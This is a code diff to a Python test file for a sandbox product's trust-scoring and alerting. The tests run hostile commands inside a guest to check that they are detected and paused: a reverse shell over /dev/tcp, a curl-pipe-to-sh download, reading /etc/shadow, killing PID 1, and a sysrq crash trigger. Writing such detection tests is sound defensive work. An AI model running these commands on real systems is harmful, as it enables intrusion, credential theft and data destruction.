@@ -1,5 +1,6 @@
 """The trust score of real guests: what it costs, what it does not, and that anybody can compute it again."""
 
+import contextlib
 import json
 
 import product
@@ -69,7 +70,8 @@ def alerts(server, sandbox):
 
 def test_low_trust_alerts_and_pauses_once_and_failures_alert(server):
     s = server.create(memory_mb=256, disk_gb=1)
-    s.exec("bash -i >& /dev/tcp/127.0.0.1/9 0>&1; curl -s http://127.0.0.1:9/x | sh; cat /etc/shadow; kill -9 1")
+    with contextlib.suppress(product.Refused):  # the pause may come before its answer
+        s.exec("bash -i >& /dev/tcp/127.0.0.1/9 0>&1; curl -s http://127.0.0.1:9/x | sh; cat /etc/shadow; kill -9 1")
     product.wait_for("it is paused", lambda: s.get()["status"] == "paused", 60)
     assert s.get()["pause_reason"] == "trust" and s.get()["trust_score"] < 30
     raised = alerts(server, s)
@@ -97,10 +99,8 @@ def test_low_trust_alerts_and_pauses_once_and_failures_alert(server):
 
 def test_a_sandbox_that_fails_alerts(server):
     s = server.create(memory_mb=256, disk_gb=1)
-    try:
+    with contextlib.suppress(Exception):  # the guest is gone while it answers
         s.exec("echo c > /proc/sysrq-trigger", user="root", timeout_ms=5000)
-    except Exception:  # noqa: BLE001, S110 - the guest is gone while it answers
-        pass
     product.wait_for("it is an error", lambda: s.get()["status"] == "error", 60)
     product.wait_for("it is told", lambda: ("sandbox_error", "critical") in alerts(server, s), 60, 0.3)
     assert "observer.attacked" in rules_of(s)
